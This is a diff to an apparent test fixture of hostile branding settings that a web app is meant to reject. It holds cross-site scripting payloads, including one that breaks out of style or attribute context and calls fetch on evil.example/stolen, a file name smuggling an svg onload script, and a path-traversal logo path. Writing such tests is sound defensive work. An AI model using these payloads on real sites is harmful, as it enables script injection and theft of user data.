@@ -9,7 +9,7 @@ export type HostileBrand = {
 type RefusedBrand = HostileBrand & { readonly says: RegExp };
 
 /** Sets a mark that the journeys look for, and calls a host that they do not know. */
-const RUN = "window.hacked=1;fetch('https://evil.example/stolen')";
+const RUN = "window.intruded=1;fetch('https://evil.example/stolen')";
 
 const OUT_OF_STYLE = `</style><script>${RUN}</script>`;
 const OUT_OF_ATTRIBUTE = `"><img src=x onerror="${RUN}">`;
@@ -120,6 +120,10 @@ export const REFUSED: Readonly<Record<string, RefusedBrand>> = {
   },
   traversal: {
     settings: { name: 'Refused', logo: { light: '../good/logo.svg' } },
+    says: /logo\.light: must name a file/,
+  },
+  filename: {
+    settings: { name: 'Refused', logo: { light: '"><svg onload=alert(1)>.svg' } },
     says: /logo\.light: must name a file/,
   },
   huge: {
